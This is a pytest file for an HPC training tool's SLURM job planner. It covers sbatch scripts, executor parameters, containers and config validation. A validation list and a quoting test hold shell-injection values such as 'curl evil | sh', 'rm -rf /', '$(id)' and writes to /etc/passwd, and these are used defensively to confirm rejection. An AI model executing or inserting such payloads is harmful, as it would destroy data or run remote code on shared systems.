@@ -1,0 +1,97 @@
+"""The SLURM plan: submitit parameters, the sbatch script snapshot, quoting, and containers."""
+from __future__ import annotations
+
+import pytest
+
+from hpctrain.config import load_config, validate
+from hpctrain.errors import ConfigError
+from hpctrain.plan_slurm import plan_slurm
+
+
+def _plan(*overrides: str, folder: str | None = None):
+    cfg = load_config(["cluster=slurm", *overrides])
+    validate(cfg)
+    return plan_slurm(cfg, "/runs/r1", "/venv/bin/python", folder)
+
+
+def test_sbatch_script_matches_snapshot(snapshot) -> None:
+    plan = _plan("cluster.nodes=2", "cluster.ranks_per_node=4", "cluster.gpus_per_node=4",
+                 "cluster.partition=gpu", "cluster.account=proj1", "cluster.qos=high", "cluster.mem_gb=64",
+                 "cluster.constraint='a100&ib'", "cluster.exclusive=true", "cluster.time_min=90",
+                 "cluster.setup=[module load cuda/12.2,source /opt/env.sh]", "+cluster.env.NCCL_DEBUG=INFO",
+                 "parallelism.fusion_threshold_mb=32")
+    snapshot("slurm_sbatch.txt", plan.sbatch_script())
+
+
+def test_executor_parameters_use_submitit_names() -> None:
+    p = _plan("cluster.nodes=3", "cluster.ranks_per_node=2", "cluster.cpus_per_rank=4", "cluster.mem_gb=1.5")
+    ex = p.executor
+    assert (ex["nodes"], ex["ntasks_per_node"], ex["cpus_per_task"], ex["mem"]) == (3, 2, 4, "1.5GB")
+    assert "--kill-on-bad-exit=1" in ex["srun_args"] and "--mpi=pmix" in ex["srun_args"]
+    assert p.world_size == 6 and p.env["OMP_NUM_THREADS"] == "4"
+    assert "gpus_per_node" not in ex and "partition" not in ex  # unset options stay unset
+
+
+def test_hostile_env_value_is_quoted_in_the_script() -> None:
+    script = _plan("+cluster.env.EVIL='$(touch /tmp/pwned); echo hi'").sbatch_script()
+    assert "export EVIL='$(touch /tmp/pwned); echo hi'" in script
+
+
+def test_array_script_uses_array_log_names_and_parallelism_cap() -> None:
+    script = _plan("cluster.array_parallelism=4").sbatch_script(array_size=10)
+    assert "#SBATCH --array=0-9%4" in script and "%A_%a_0_log.out" in script
+
+
+def test_shape_ignores_job_name_but_not_resources() -> None:
+    a, b = _plan("run.name=a"), _plan("run.name=b")
+    assert a.shape() == b.shape()
+    assert a.shape() != _plan("cluster.nodes=2").shape()
+    assert a.shape() == _plan("precision=bf16", "train.steps=7").shape()  # content, not resources
+
+
+def test_container_wraps_every_rank_in_apptainer() -> None:
+    p = _plan("cluster.container=/images/hpctrain.sif", "cluster.gpus_per_node=2", "cluster.ranks_per_node=2")
+    assert p.python.startswith("apptainer exec --nv --bind /runs")
+    assert p.python.endswith("/images/hpctrain.sif python3")
+    script = p.sbatch_script()
+    assert "--mpi=pmix" in script and "apptainer exec --nv" in script  # host PMIx, hybrid model
+    assert "--nv" not in _plan("cluster.container=/i.sif").python  # no GPUs, no --nv
+
+
+# (overrides, key) for SLURM configs that must never reach sbatch.
+INVALID_SLURM = [
+    (["cluster.nodes=0"], "cluster.nodes"),
+    (["cluster.ranks_per_node=0"], "cluster.ranks_per_node"),
+    (["cluster.time_min=0"], "cluster.time_min"),
+    (["cluster.cpus_per_rank=0"], "cluster.cpus_per_rank"),
+    (["cluster.mem_gb=-2"], "cluster.mem_gb"),
+    (["cluster.signal_delay_s=7200", "cluster.time_min=60"], "cluster.signal_delay_s"),
+    (["cluster.gpus_per_node=4", "cluster.ranks_per_node=2"], "cluster.ranks_per_node"),
+    (["cluster.partition='gpu;rm -rf ~'"], "cluster.partition"),
+    (["cluster.account='$(id)'"], "cluster.account"),
+    (["cluster.qos='a b'"], "cluster.qos"),
+    (["cluster.constraint='a100\nhostname'"], "cluster.constraint"),
+    (["cluster.setup=['module load x; curl evil | sh']"], "cluster.setup[0]"),
+    (["cluster.setup=['echo $(whoami)']"], "cluster.setup[0]"),
+    (["cluster.setup=['echo `id`']"], "cluster.setup[0]"),
+    (["cluster.setup=['a > /etc/passwd']"], "cluster.setup[0]"),
+    (["cluster.setup=['line1\nline2']"], "cluster.setup[0]"),
+    (["+cluster.env.X='a\nb'"], "cluster.env.X"),
+    (["+cluster.env.1BAD=x"], "cluster.env.1BAD"),
+    (["cluster.srun_args=['--x\n#SBATCH --y']"], "cluster.srun_args[0]"),
+    (["run.name='job;reboot'"], "run.name"),
+    (["run.name='$(reboot)'"], "run.name"),
+    (["cluster.container='img.sif; rm -rf /'"], "cluster.container"),
+    (["cluster.mpi=openmpi"], "cluster.mpi"),
+    (["cluster.mpi=none"], "cluster.mpi"),  # backend=mpi needs PMI
+    (["train.device=cuda"], "cluster.gpus_per_node"),
+    (["cluster.max_requeues=-1"], "cluster.max_requeues"),
+    (["cluster.array_parallelism=0"], "cluster.array_parallelism"),
+]
+
+
+@pytest.mark.parametrize("overrides,key", INVALID_SLURM, ids=[" ".join(o) for o, _ in INVALID_SLURM])
+def test_invalid_slurm_config_is_rejected(overrides: list[str], key: str) -> None:
+    with pytest.raises(ConfigError) as e:
+        validate(load_config(["cluster=slurm", *overrides]))
+    assert key in e.value.keys, str(e.value)
